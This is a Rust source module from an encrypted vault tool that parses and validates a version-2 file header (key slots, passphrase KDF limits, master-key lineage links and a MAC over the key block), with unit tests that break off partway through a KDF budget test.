//! The version-2 header: a key block sealed by the master key, and the
//! per-write fields around it. Pure: no keys, no crypto, no files. What the
//! bytes mean cryptographically is in `docs/FORMAT.md` ("Version 2"); this
//! module only decodes, bounds and re-encodes them.
//!
//! ```text
//! header  = {"id", "generation", "keys": key block, "mac", "nonce"}
//! keys    = {"epoch", "slots": [slot, ...], "master", "body_key", "body",
//!            ?"lineage": {"key", "links": [{"from", "master", "sig"}, ...]}}
//! slot    = {"id", "kind", ?"label", kind-specific fields}
//! ```
//!
//! The key block is covered by a MAC keyed from the master key. A write
//! made with only the body key (the cached unlock) copies the key block
//! and the MAC verbatim and changes only `generation` and `nonce`, which
//! the body's associated data covers.

use super::cbor::{
    put_bytes, put_head, put_text, Matches, Part, Reader, Sink, ARRAY, MAP, TEXT, UINT,
};
use super::kdf::KdfParams;
use super::{FormatError, SlotId, VaultId};
use super::{COMMITMENT_LEN, NONCE_LEN, WRAPPED_LEN};

/// At most this many slots in a version-2 vault.
pub const MAX_SLOTS_V2: usize = 128;
/// Longest version-2 header, in bytes: 128 slots of the largest kind
/// (an RSA-4096 SSH recipient and its age stanza) fit with room to spare.
pub const MAX_HEADER_LEN_V2: usize = 1024 * 1024;
/// Longest recipient string (an RSA-16384 SSH key line is about 2.8 KB;
/// RSA-4096, the largest in common use, 725 bytes).
pub const MAX_RECIPIENT_LEN: usize = 4096;
/// Longest age file wrapping a master key in a slot.
pub const MAX_AGE_LEN: usize = 8192;
/// Longest label, in bytes.
pub const MAX_LABEL_LEN: usize = 64;
/// A passphrase slot's X25519 identity (its 32-byte secret), sealed under
/// its passphrase's Argon2id output: nonce, 32 bytes encrypted, tag.
pub const SEALED_IDENTITY_LEN: usize = NONCE_LEN + WRAPPED_LEN;
/// The body key sealed under the master key: nonce, 32 bytes, tag.
pub const SEALED_BODY_KEY_LEN: usize = NONCE_LEN + WRAPPED_LEN;
/// Length of the key block's MAC.
pub const MAC_LEN: usize = 32;
/// Every age file starts with this line.
pub const AGE_MAGIC: &[u8] = b"age-encryption.org/v1\n";

/// The sum over all passphrase slots of memory (KiB) × passes that one
/// vault may ask for (the same budget as version 1, `kdf::BUDGET`).
pub const KDF_BUDGET: u64 = super::kdf::BUDGET;

/// A generation above this is corrupt: no real vault gets near it (a write
/// a millisecond for 140 000 years), and `generation + 1` can never wrap.
pub const MAX_GENERATION: u64 = 1 << 62;

/// A slot's label: what `vault key list` shows next to its id.
///
/// UTF-8, 1 to 64 bytes, no control, format (bidirectional overrides,
/// zero-width) or line-separator characters, no leading or trailing space,
/// and never exactly 8 hex digits (that would read as a slot id).
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Label(String);

/// Why a label was refused.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LabelProblem {
    /// Empty.
    Empty,
    /// Longer than [`MAX_LABEL_LEN`] bytes.
    TooLong,
    /// Holds a control, format or separator character.
    Invisible,
    /// Starts or ends with white space.
    Padded,
    /// Eight hex digits, which would read as a slot id.
    LooksLikeId,
}

impl std::fmt::Display for LabelProblem {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            LabelProblem::Empty => "a label cannot be empty",
            LabelProblem::TooLong => "a label is at most 64 bytes",
            LabelProblem::Invisible => {
                "a label cannot hold control, bidirectional or invisible characters"
            }
            LabelProblem::Padded => "a label cannot start or end with white space",
            LabelProblem::LooksLikeId => {
                "a label cannot be 8 hex digits (that is how slot ids are written)"
            }
        })
    }
}

/// Characters a label may not hold: C0/C1 controls, the format and
/// separator characters that change how text around them is shown
/// (bidirectional embeddings, overrides and isolates, zero-width
/// characters, line and paragraph separators, the BOM, tag characters),
/// and characters that show as nothing (fillers, variation selectors, the
/// blank braille pattern). Look-alike letters of other scripts are not
/// caught: a label is a name, not an authentication.
fn is_invisible(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{00AD}'
            | '\u{034F}'
            | '\u{061C}'
            | '\u{115F}'..='\u{1160}'
            | '\u{17B4}'..='\u{17B5}'
            | '\u{180B}'..='\u{180F}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{206F}'
            | '\u{2800}'
            | '\u{3164}'
            | '\u{FE00}'..='\u{FE0F}'
            | '\u{FEFF}'
            | '\u{FFA0}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{E0000}'..='\u{E0FFF}')
}

impl Label {
    /// Checks `s` against the label rule.
    pub fn parse(s: &str) -> Result<Label, LabelProblem> {
        if s.is_empty() {
            return Err(LabelProblem::Empty);
        }
        if s.len() > MAX_LABEL_LEN {
            return Err(LabelProblem::TooLong);
        }
        if s.chars().any(is_invisible) {
            return Err(LabelProblem::Invisible);
        }
        if s.starts_with(char::is_whitespace) || s.ends_with(char::is_whitespace) {
            return Err(LabelProblem::Padded);
        }
        if SlotId::from_hex(s).is_some() {
            return Err(LabelProblem::LooksLikeId);
        }
        Ok(Label(s.to_owned()))
    }

    /// The label's text.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// A slot of a version-2 vault.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SlotV2 {
    /// Identifier, unique within the vault.
    pub id: SlotId,
    /// Optional label, unique within the vault.
    pub label: Option<Label>,
    /// Kind and what the kind carries.
    pub kind: SlotKindV2,
}

/// The age file in a slot: the master key encrypted to `recipient`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AgeWrap {
    /// The recipient, as age writes it (`age1…`, `ssh-ed25519 AAAA…`,
    /// `age1<plugin>1…`). Printable ASCII, single spaces.
    pub recipient: String,
    /// A standard age file whose payload is the 32-byte master key.
    pub age: Vec<u8>,
}

/// What a slot is, and where its private key lives.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SlotKindV2 {
    /// An X25519 identity kept in this machine's keyring.
    Keyring(AgeWrap),
    /// An X25519 identity kept in the file, sealed under Argon2id of a
    /// passphrase.
    Passphrase {
        /// The master key wrapped to the identity's recipient.
        wrap: AgeWrap,
        /// Argon2id salt.
        salt: Vec<u8>,
        /// Argon2id cost.
        params: KdfParams,
        /// The identity, sealed: nonce ‖ ciphertext ‖ tag.
        identity: [u8; SEALED_IDENTITY_LEN],
    },
    /// A teammate's or a CI job's public key; its private key is never in
    /// the file.
    Recipient(AgeWrap),
    /// A version-1 keyring slot carried over: the master key wrapped under
    /// a 32-byte keyring key as version 1 wraps it.
    LegacyKeyring {
        /// Nonce of the wrap.
        nonce: [u8; NONCE_LEN],
        /// The wrapped master key.
        wrapped: [u8; WRAPPED_LEN],
    },
    /// A version-1 passphrase slot carried over.
    LegacyPassphrase {
        /// Argon2id salt.
        salt: Vec<u8>,
        /// Argon2id cost.
        params: KdfParams,
        /// Nonce of the wrap.
        nonce: [u8; NONCE_LEN],
        /// The wrapped master key.
        wrapped: [u8; WRAPPED_LEN],
    },
}

const KIND_KEYRING: u64 = 1;
const KIND_PASSPHRASE: u64 = 2;
const KIND_RECIPIENT: u64 = 3;
const KIND_LEGACY_KEYRING: u64 = 11;
const KIND_LEGACY_PASSPHRASE: u64 = 12;

impl SlotKindV2 {
    fn code(&self) -> u64 {
        match self {
            SlotKindV2::Keyring(_) => KIND_KEYRING,
            SlotKindV2::Passphrase { .. } => KIND_PASSPHRASE,
            SlotKindV2::Recipient(_) => KIND_RECIPIENT,
            SlotKindV2::LegacyKeyring { .. } => KIND_LEGACY_KEYRING,
            SlotKindV2::LegacyPassphrase { .. } => KIND_LEGACY_PASSPHRASE,
        }
    }

    /// `keyring`, `passphrase` or `recipient` (legacy slots by their kind).
    pub fn name(&self) -> &'static str {
        match self {
            SlotKindV2::Keyring(_) | SlotKindV2::LegacyKeyring { .. } => "keyring",
            SlotKindV2::Passphrase { .. } | SlotKindV2::LegacyPassphrase { .. } => "passphrase",
            SlotKindV2::Recipient(_) => "recipient",
        }
    }

    /// The Argon2id cost of a passphrase slot (legacy or not).
    pub fn kdf(&self) -> Option<(&[u8], KdfParams)> {
        match self {
            SlotKindV2::Passphrase { salt, params, .. }
            | SlotKindV2::LegacyPassphrase { salt, params, .. } => Some((salt, *params)),
            _ => None,
        }
    }

    /// The age wrap of a version-2 slot.
    pub fn wrap(&self) -> Option<&AgeWrap> {
        match self {
            SlotKindV2::Keyring(w) | SlotKindV2::Recipient(w) => Some(w),
            SlotKindV2::Passphrase { wrap, .. } => Some(wrap),
            _ => None,
        }
    }

    /// Memory (KiB) × passes of a passphrase slot; 0 for others.
    pub fn kdf_cost(&self) -> u64 {
        self.kdf()
            .map_or(0, |(_, p)| p.memory_kib as u64 * p.time as u64)
    }

    /// Whether this slot was carried over from a version-1 file.
    pub fn is_legacy(&self) -> bool {
        matches!(
            self,
            SlotKindV2::LegacyKeyring { .. } | SlotKindV2::LegacyPassphrase { .. }
        )
    }
}

/// At most this many links in a key block's [`Lineage`]: rotations a
/// machine can have missed and still follow.
pub const MAX_LINKS: usize = 32;
/// Length of a lineage key (an Ed25519 public key).
pub const LINEAGE_KEY_LEN: usize = 32;
/// Length of a link's signature (Ed25519).
pub const SIGNATURE_LEN: usize = 64;

/// Where the master key comes from: the public key of a signing key
/// derived from the master key, and the links that chain earlier master
/// keys to it (oldest first). Link `i` is signed by the key of its `from`
/// and endorses the next link's `from` (the last link: `key`) with that
/// key's master-key commitment. A machine that remembers an earlier
/// master key's lineage key accepts a new master key only through these
/// links: only a holder of the earlier master key can make one
/// (docs/FORMAT.md, "Lineage").
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Lineage {
    /// This master key's lineage key.
    pub key: [u8; LINEAGE_KEY_LEN],
    /// At most [`MAX_LINKS`] links, oldest first.
    pub links: Vec<Link>,
}

/// One rotation: the master key whose lineage key is `from` endorsed the
/// next one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Link {
    /// The earlier master key's lineage key.
    pub from: [u8; LINEAGE_KEY_LEN],
    /// The next master key's commitment.
    pub master: [u8; COMMITMENT_LEN],
    /// Signature by `from` over the vault id, the next lineage key and
    /// `master` (see [`Lineage::message`]).
    pub sig: [u8; SIGNATURE_LEN],
}

/// Domain prefix of a link's signed message.
const LINK_DOMAIN: &[u8] = b"vault master key lineage v2\0";

impl Lineage {
    /// What a link from some key to (`to`, `master`) signs.
    pub fn message(
        vault_id: &VaultId,
        to: &[u8; LINEAGE_KEY_LEN],
        master: &[u8; COMMITMENT_LEN],
    ) -> Vec<u8> {
        [LINK_DOMAIN, &vault_id.0[..], &to[..], &master[..]].concat()
    }

    /// The key each link endorses, in order: the next link's `from`, and
    /// for the last link [`Lineage::key`].
    pub fn endorsed(&self) -> impl Iterator<Item = (&Link, &[u8; LINEAGE_KEY_LEN])> + '_ {
        let next = self
            .links
            .iter()
            .skip(1)
            .map(|l| &l.from)
            .chain(std::iter::once(&self.key));
        self.links.iter().zip(next)
    }
}

/// The part of the header only a master-key holder can change.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct KeyBlock {
    /// The generation of the write that sealed this key block (at most the
    /// header's generation).
    pub epoch: u64,
    /// 1 to [`MAX_SLOTS_V2`] slots.
    pub slots: Vec<SlotV2>,
    /// Commitment to the master key.
    pub master_commitment: [u8; COMMITMENT_LEN],
    /// The body key sealed under a key derived from the master key.
    pub body_key: [u8; SEALED_BODY_KEY_LEN],
    /// Commitment to the body key.
    pub body_commitment: [u8; COMMITMENT_LEN],
    /// The master key's lineage; `None` only in files written before it
    /// existed (every write with the master key adds it).
    pub lineage: Option<Lineage>,
}

/// A decoded version-2 header.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HeaderV2 {
    /// Random identifier of this vault.
    pub vault_id: VaultId,
    /// Incremented on every write, at most [`MAX_GENERATION`].
    pub generation: u64,
    /// Slots and key commitments, covered by `mac`.
    pub keys: KeyBlock,
    /// MAC of the key block under a key derived from the master key.
    pub mac: [u8; MAC_LEN],
    /// Nonce of the body encryption, fresh on every write.
    pub body_nonce: [u8; NONCE_LEN],
}

/// Whether `s` is a recipient string the format can hold: printable ASCII
/// words separated by single spaces.
fn valid_recipient(s: &[u8]) -> bool {
    // It runs for every slot on every open: printable ASCII in a loop
    // without an early exit (vectorised), then no empty word (no space
    // first, last or after another; a recipient has at most a few).
    let (printable, spaces) = s.iter().fold((true, false), |(ok, sp), &b| {
        (ok & (0x20..0x7f).contains(&b), sp | (b == b' '))
    });
    s.len() <= MAX_RECIPIENT_LEN
        && printable
        && !s.is_empty()
        && (!spaces || s.split(|&b| b == b' ').all(|w| !w.is_empty()))
}

impl KeyBlock {
    /// Canonical CBOR of the key block: the MAC's message (with the
    /// domain prefix, see [`HeaderV2::mac_message`]) and the header's
    /// `keys` value.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(256 + 512 * self.slots.len());
        self.encode_into(&mut out);
        out
    }

    fn encode_into(&self, out: &mut impl Sink) {
        put_head(out, MAP, 5 + self.lineage.is_some() as u64);
        put_text(out, "epoch");
        put_head(out, UINT, self.epoch);
        put_text(out, "slots");
        put_head(out, ARRAY, self.slots.len() as u64);
        for s in &self.slots {
            encode_slot(out, s);
        }
        put_text(out, "master");
        put_bytes(out, &self.master_commitment);
        put_text(out, "body_key");
        put_bytes(out, &self.body_key);
        put_text(out, "body");
        put_bytes(out, &self.body_commitment);
        if let Some(l) = &self.lineage {
            put_text(out, "lineage");
            put_head(out, MAP, 2);
            put_text(out, "key");
            put_bytes(out, &l.key);
            put_text(out, "links");
            put_head(out, ARRAY, l.links.len() as u64);
            for link in &l.links {
                put_head(out, MAP, 3);
                put_text(out, "from");
                put_bytes(out, &link.from);
                put_text(out, "master");
                put_bytes(out, &link.master);
                put_text(out, "sig");
                put_bytes(out, &link.sig);
            }
        }
    }

    /// The slot with this id.
    pub fn slot(&self, id: SlotId) -> Option<&SlotV2> {
        self.slots.iter().find(|s| s.id == id)
    }

    /// Memory (KiB) × passes summed over the passphrase slots, slot
    /// `except` left out.
    pub fn kdf_cost(&self, except: Option<SlotId>) -> u64 {
        self.slots
            .iter()
            .filter(|s| Some(s.id) != except)
            .filter_map(|s| s.kind.kdf())
            .map(|(_, p)| p.memory_kib as u64 * p.time as u64)
            .sum()
    }
}

fn encode_slot(out: &mut impl Sink, s: &SlotV2) {
    let fields = match &s.kind {
        SlotKindV2::Keyring(_) | SlotKindV2::Recipient(_) => 4,
        SlotKindV2::Passphrase { .. } => 6,
        SlotKindV2::LegacyKeyring { .. } => 4,
        SlotKindV2::LegacyPassphrase { .. } => 5,
    };
    put_head(out, MAP, fields + s.label.is_some() as u64);
    put_text(out, "id");
    put_bytes(out, &s.id.0);
    put_text(out, "kind");
    put_head(out, UINT, s.kind.code());
    if let Some(l) = &s.label {
        put_text(out, "label");
        put_text(out, l.as_str());
    }
    fn put_kdf(out: &mut impl Sink, salt: &[u8], p: &KdfParams) {
        put_text(out, "kdf");
        put_head(out, MAP, 4);
        put_text(out, "salt");
        put_bytes(out, salt);
        put_text(out, "m");
        put_head(out, UINT, p.memory_kib as u64);
        put_text(out, "t");
        put_head(out, UINT, p.time as u64);
        put_text(out, "p");
        put_head(out, UINT, p.parallelism as u64);
    }
    match &s.kind {
        SlotKindV2::Keyring(w) | SlotKindV2::Recipient(w) => {
            put_text(out, "recipient");
            put_text(out, &w.recipient);
            put_text(out, "age");
            put_bytes(out, &w.age);
        }
        SlotKindV2::Passphrase {
            wrap,
            salt,
            params,
            identity,
        } => {
            put_text(out, "recipient");
            put_text(out, &wrap.recipient);
            put_kdf(out, salt, params);
            put_text(out, "identity");
            put_bytes(out, identity);
            put_text(out, "age");
            put_bytes(out, &wrap.age);
        }
        SlotKindV2::LegacyKeyring { nonce, wrapped } => {
            put_text(out, "nonce");
            put_bytes(out, nonce);
            put_text(out, "wrapped");
            put_bytes(out, wrapped);
        }
        SlotKindV2::LegacyPassphrase {
            salt,
            params,
            nonce,
            wrapped,
        } => {
            put_kdf(out, salt, params);
            put_text(out, "nonce");
            put_bytes(out, nonce);
            put_text(out, "wrapped");
            put_bytes(out, wrapped);
        }
    }
}

/// Domain prefix of the key block's MAC message.
const MAC_DOMAIN: &[u8] = b"vault key block v2\0";

impl HeaderV2 {
    /// Canonical CBOR encoding.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(256 + 512 * self.keys.slots.len());
        self.encode_to(&mut out);
        out
    }

    fn encode_to(&self, out: &mut impl Sink) {
        put_head(out, MAP, 5);
        put_text(out, "id");
        put_bytes(out, &self.vault_id.0);
        put_text(out, "generation");
        put_head(out, UINT, self.generation);
        put_text(out, "keys");
        self.keys.encode_into(out);
        put_text(out, "mac");
        put_bytes(out, &self.mac);
        put_text(out, "nonce");
        put_bytes(out, &self.body_nonce);
    }

    /// What the key block's MAC is computed over: a domain prefix, the
    /// vault id and the key block's canonical encoding.
    pub fn mac_message(vault_id: &VaultId, keys: &KeyBlock) -> Vec<u8> {
        let mut m = Vec::with_capacity(MAC_DOMAIN.len() + 16 + 512 * keys.slots.len());
        Self::mac_message_to(vault_id, keys, &mut m);
        m
    }

    /// [`HeaderV2::mac_message`], written to `out`.
    pub(crate) fn mac_message_to(vault_id: &VaultId, keys: &KeyBlock, out: &mut impl Sink) {
        out.put(MAC_DOMAIN);
        out.put(&vault_id.0);
        keys.encode_into(out);
    }

    /// Decodes and validates a version-2 header; `bytes` is exactly the
    /// header. Every bound (sizes, counts, KDF parameters and budget,
    /// generation, labels) is checked here, before any key derivation.
    pub fn decode(bytes: &[u8]) -> Result<HeaderV2, FormatError> {
        if bytes.len() > MAX_HEADER_LEN_V2 {
            return Err(FormatError::Corrupt("header too long"));
        }
        let r = &mut Reader::new(Part::Header, bytes, 0);
        if r.expect(MAP)? != 5 {
            return Err(r.malformed());
        }
        r.key(b"id")?;
        let vault_id = VaultId(r.byte_array()?);
        r.key(b"generation")?;
        let generation = r.uint()?;
        if generation > MAX_GENERATION {
            return Err(FormatError::Corrupt("generation out of bounds"));
        }
        r.key(b"keys")?;
        let keys = read_key_block(r)?;
        if keys.epoch > generation {
            return Err(FormatError::Corrupt("key block newer than the file"));
        }
        r.key(b"mac")?;
        let mac = r.byte_array()?;
        r.key(b"nonce")?;
        let body_nonce = r.byte_array()?;
        if r.remaining() != 0 {
            return Err(Part::Header.not_canonical());
        }
        let header = HeaderV2 {
            vault_id,
            generation,
            keys,
            mac,
            body_nonce,
        };
        let mut same = Matches::new(bytes);
        header.encode_to(&mut same);
        if !same.finish() {
            return Err(Part::Header.not_canonical());
        }
        Ok(header)
    }
}

fn read_key_block(r: &mut Reader<'_>) -> Result<KeyBlock, FormatError> {
    let entries = r.expect(MAP)?;
    if entries != 5 && entries != 6 {
        return Err(r.malformed());
    }
    r.key(b"epoch")?;
    let epoch = r.uint()?;
    r.key(b"slots")?;
    let n = r.expect(ARRAY)?;
    if n == 0 || n > MAX_SLOTS_V2 as u64 {
        return Err(FormatError::Corrupt("slot count out of bounds"));
    }
    let mut slots: Vec<SlotV2> = Vec::with_capacity(n as usize);
    let mut budget = KDF_BUDGET;
    for _ in 0..n {
        let slot = read_slot(r)?;
        if slots.iter().any(|o| o.id == slot.id) {
            return Err(FormatError::Corrupt("duplicate slot id"));
        }
        if slot.label.is_some() && slots.iter().any(|o| o.label == slot.label) {
            return Err(FormatError::Corrupt("duplicate slot label"));
        }
        if let Some((_, p)) = slot.kind.kdf() {
            budget = budget
                .checked_sub(p.memory_kib as u64 * p.time as u64)
                .ok_or(FormatError::KdfOverBudget)?;
        }
        slots.push(slot);
    }
    r.key(b"master")?;
    let master_commitment = r.byte_array()?;
    r.key(b"body_key")?;
    let body_key = r.byte_array()?;
    r.key(b"body")?;
    let body_commitment = r.byte_array()?;
    let lineage = match entries {
        6 => Some(read_lineage(r)?),
        _ => None,
    };
    Ok(KeyBlock {
        epoch,
        slots,
        master_commitment,
        body_key,
        body_commitment,
        lineage,
    })
}

fn read_lineage(r: &mut Reader<'_>) -> Result<Lineage, FormatError> {
    r.key(b"lineage")?;
    if r.expect(MAP)? != 2 {
        return Err(r.malformed());
    }
    r.key(b"key")?;
    let key = r.byte_array()?;
    r.key(b"links")?;
    let n = r.expect(ARRAY)?;
    if n > MAX_LINKS as u64 {
        return Err(FormatError::Corrupt("too many lineage links"));
    }
    let mut links = Vec::with_capacity(n as usize);
    for _ in 0..n {
        if r.expect(MAP)? != 3 {
            return Err(r.malformed());
        }
        r.key(b"from")?;
        let from = r.byte_array()?;
        r.key(b"master")?;
        let master = r.byte_array()?;
        r.key(b"sig")?;
        let sig = r.byte_array()?;
        links.push(Link { from, master, sig });
    }
    Ok(Lineage { key, links })
}

fn read_kdf(r: &mut Reader<'_>) -> Result<(Vec<u8>, KdfParams), FormatError> {
    r.key(b"kdf")?;
    if r.expect(MAP)? != 4 {
        return Err(r.malformed());
    }
    r.key(b"salt")?;
    let salt = r.bytes(*super::kdf::SALT_LEN.end())?;
    KdfParams::check_salt_len(salt.len())
        .map_err(|_| FormatError::Corrupt("salt length out of bounds"))?;
    let mut param = |key: &[u8]| -> Result<u32, FormatError> {
        r.key(key)?;
        u32::try_from(r.uint()?).map_err(|_| Part::Header.malformed())
    };
    let params = KdfParams {
        memory_kib: param(b"m")?,
        time: param(b"t")?,
        parallelism: param(b"p")?,
    };
    params.check_bounds().map_err(FormatError::KdfOutOfBounds)?;
    Ok((salt.to_vec(), params))
}

fn read_recipient(r: &mut Reader<'_>) -> Result<String, FormatError> {
    r.key(b"recipient")?;
    let (at, n) = r.string(TEXT, MAX_RECIPIENT_LEN)?;
    let s = r.slice(at, n);
    if !valid_recipient(s) {
        return Err(FormatError::Corrupt("malformed recipient"));
    }
    // Printable ASCII, so valid UTF-8.
    std::str::from_utf8(s)
        .map(str::to_owned)
        .map_err(|_| FormatError::Corrupt("malformed recipient"))
}

/// Whether `s` is an age X25519 recipient (`age1…`, Bech32, 32 bytes): what
/// keyring and passphrase slots hold. Its text also names a keyring entry,
/// so nothing else may pass.
fn is_x25519_recipient(s: &str) -> bool {
    s.parse::<age::x25519::Recipient>().is_ok()
}

fn read_age(r: &mut Reader<'_>) -> Result<Vec<u8>, FormatError> {
    r.key(b"age")?;
    let age = r.bytes(MAX_AGE_LEN)?;
    if !age.starts_with(AGE_MAGIC) {
        return Err(FormatError::Corrupt("slot does not hold an age file"));
    }
    Ok(age.to_vec())
}

fn read_slot(r: &mut Reader<'_>) -> Result<SlotV2, FormatError> {
    let entries = r.expect(MAP)?;
    r.key(b"id")?;
    let id = SlotId(r.byte_array()?);
    r.key(b"kind")?;
    let code = r.uint()?;
    let fields = match code {
        KIND_KEYRING | KIND_RECIPIENT | KIND_LEGACY_KEYRING => 4,
        KIND_PASSPHRASE => 6,
        KIND_LEGACY_PASSPHRASE => 5,
        _ => return Err(FormatError::Corrupt("unknown slot kind")),
    };
    let label = match entries.checked_sub(fields) {
        Some(0) => None,
        Some(1) => {
            r.key(b"label")?;
            let (at, n) = r.string(TEXT, MAX_LABEL_LEN)?;
            let text = std::str::from_utf8(r.slice(at, n))
                .map_err(|_| FormatError::Corrupt("label is not UTF-8"))?;
            Some(Label::parse(text).map_err(|_| FormatError::Corrupt("invalid slot label"))?)
        }
        _ => return Err(r.malformed()),
    };
    let kind = match code {
        KIND_KEYRING | KIND_RECIPIENT => {
            let recipient = read_recipient(r)?;
            if code == KIND_KEYRING && !is_x25519_recipient(&recipient) {
                return Err(FormatError::Corrupt(
                    "keyring slot without an X25519 recipient",
                ));
            }
            let wrap = AgeWrap {
                recipient,
                age: read_age(r)?,
            };
            if code == KIND_KEYRING {
                SlotKindV2::Keyring(wrap)
            } else {
                SlotKindV2::Recipient(wrap)
            }
        }
        KIND_PASSPHRASE => {
            let recipient = read_recipient(r)?;
            if !is_x25519_recipient(&recipient) {
                return Err(FormatError::Corrupt(
                    "passphrase slot without an X25519 recipient",
                ));
            }
            let (salt, params) = read_kdf(r)?;
            r.key(b"identity")?;
            let identity = r.byte_array()?;
            let age = read_age(r)?;
            SlotKindV2::Passphrase {
                wrap: AgeWrap { recipient, age },
                salt,
                params,
                identity,
            }
        }
        KIND_LEGACY_KEYRING => {
            r.key(b"nonce")?;
            let nonce = r.byte_array()?;
            r.key(b"wrapped")?;
            let wrapped = r.byte_array()?;
            SlotKindV2::LegacyKeyring { nonce, wrapped }
        }
        _ => {
            let (salt, params) = read_kdf(r)?;
            r.key(b"nonce")?;
            let nonce = r.byte_array()?;
            r.key(b"wrapped")?;
            let wrapped = r.byte_array()?;
            SlotKindV2::LegacyPassphrase {
                salt,
                params,
                nonce,
                wrapped,
            }
        }
    };
    Ok(SlotV2 { id, label, kind })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use proptest::prelude::*;

    fn age_bytes(tag: u8) -> Vec<u8> {
        let mut a = AGE_MAGIC.to_vec();
        a.extend_from_slice(b"-> X25519 abc\nxyz\n--- mac\n");
        a.extend_from_slice(&[tag; 64]);
        a
    }

    pub(crate) fn sample_header_v2() -> HeaderV2 {
        let x = "age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p".to_string();
        HeaderV2 {
            vault_id: VaultId([1; 16]),
            generation: 9,
            keys: KeyBlock {
                epoch: 8,
                slots: vec![
                    SlotV2 {
                        id: SlotId([1, 2, 3, 4]),
                        label: Some(Label::parse("desktop1").unwrap()),
                        kind: SlotKindV2::Keyring(AgeWrap {
                            recipient: x.clone(),
                            age: age_bytes(1),
                        }),
                    },
                    SlotV2 {
                        id: SlotId([5, 6, 7, 8]),
                        label: None,
                        kind: SlotKindV2::Passphrase {
                            wrap: AgeWrap {
                                recipient: x.clone(),
                                age: age_bytes(2),
                            },
                            salt: vec![3; 16],
                            params: KdfParams::DEFAULT,
                            identity: [4; SEALED_IDENTITY_LEN],
                        },
                    },
                    SlotV2 {
                        id: SlotId([9, 9, 9, 9]),
                        label: Some(Label::parse("CI · nightly").unwrap()),
                        kind: SlotKindV2::Recipient(AgeWrap {
                            recipient: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB".into(),
                            age: age_bytes(3),
                        }),
                    },
                    SlotV2 {
                        id: SlotId([0xa, 0, 0, 0]),
                        label: None,
                        kind: SlotKindV2::LegacyKeyring {
                            nonce: [5; NONCE_LEN],
                            wrapped: [6; WRAPPED_LEN],
                        },
                    },
                    SlotV2 {
                        id: SlotId([0xb, 0, 0, 0]),
                        label: Some(Label::parse("old recovery").unwrap()),
                        kind: SlotKindV2::LegacyPassphrase {
                            salt: vec![7; 32],
                            params: KdfParams::CHEAPEST,
                            nonce: [8; NONCE_LEN],
                            wrapped: [9; WRAPPED_LEN],
                        },
                    },
                ],
                master_commitment: [0xc; 32],
                body_key: [0xd; SEALED_BODY_KEY_LEN],
                body_commitment: [0xe; 32],
                lineage: Some(Lineage {
                    key: [0x11; LINEAGE_KEY_LEN],
                    links: vec![
                        Link {
                            from: [0x12; LINEAGE_KEY_LEN],
                            master: [0x13; COMMITMENT_LEN],
                            sig: [0x14; SIGNATURE_LEN],
                        },
                        Link {
                            from: [0x15; LINEAGE_KEY_LEN],
                            master: [0xc; COMMITMENT_LEN],
                            sig: [0x16; SIGNATURE_LEN],
                        },
                    ],
                }),
            },
            mac: [0xf; MAC_LEN],
            body_nonce: [0x10; NONCE_LEN],
        }
    }

    #[test]
    fn round_trip_every_kind() {
        let h = sample_header_v2();
        let bytes = h.encode();
        assert_eq!(HeaderV2::decode(&bytes).unwrap(), h);
    }

    #[test]
    fn a_key_block_without_a_lineage_round_trips_and_links_are_bounded() {
        // Files written before the lineage existed keep opening.
        let mut h = sample_header_v2();
        h.keys.lineage = None;
        assert_eq!(HeaderV2::decode(&h.encode()).unwrap(), h);
        let mut h = sample_header_v2();
        let l = h.keys.lineage.as_mut().unwrap();
        let link = l.links[0].clone();
        l.links = vec![link; MAX_LINKS];
        assert!(HeaderV2::decode(&h.encode()).is_ok());
        h.keys.lineage.as_mut().unwrap().links.push(l_link());
        assert_eq!(
            HeaderV2::decode(&h.encode()),
            Err(FormatError::Corrupt("too many lineage links"))
        );
        let h = sample_header_v2();
        let l = h.keys.lineage.as_ref().unwrap();
        let endorsed: Vec<_> = l.endorsed().map(|(link, to)| (link.from, *to)).collect();
        assert_eq!(
            endorsed,
            [([0x12; 32], [0x15; 32]), ([0x15; 32], [0x11; 32])]
        );
    }

    fn l_link() -> Link {
        Link {
            from: [1; LINEAGE_KEY_LEN],
            master: [2; COMMITMENT_LEN],
            sig: [3; SIGNATURE_LEN],
        }
    }

    #[test]
    fn every_truncation_is_refused() {
        let bytes = sample_header_v2().encode();
        for n in 0..bytes.len() {
            assert!(HeaderV2::decode(&bytes[..n]).is_err(), "truncated to {n}");
        }
        let mut longer = bytes.clone();
        longer.push(0);
        assert!(HeaderV2::decode(&longer).is_err());
    }

    #[test]
    fn the_mac_message_is_the_key_block_bytes_inside_the_header() {
        let h = sample_header_v2();
        let m = HeaderV2::mac_message(&h.vault_id, &h.keys);
        let kb = h.keys.encode();
        assert!(m.starts_with(MAC_DOMAIN));
        assert_eq!(&m[MAC_DOMAIN.len()..MAC_DOMAIN.len() + 16], &h.vault_id.0);
        assert_eq!(&m[MAC_DOMAIN.len() + 16..], &kb[..]);
        // The header holds the same bytes, so a reader can MAC what it read.
        let bytes = h.encode();
        assert!(bytes.windows(kb.len()).any(|w| w == kb));
    }

    fn refused(h: &HeaderV2) -> FormatError {
        HeaderV2::decode(&h.encode()).unwrap_err()
    }

    #[test]
    fn kdf_budget_is_checked_before_anything_else_runs() {
        let mut h = sample_header_v2();
        let top = KdfParams {
            memory_kib: 2 * 1024 * 1024,
            time: 16,
            parallelism: 1,
        };
        // One maximal slot alone is within the budget…
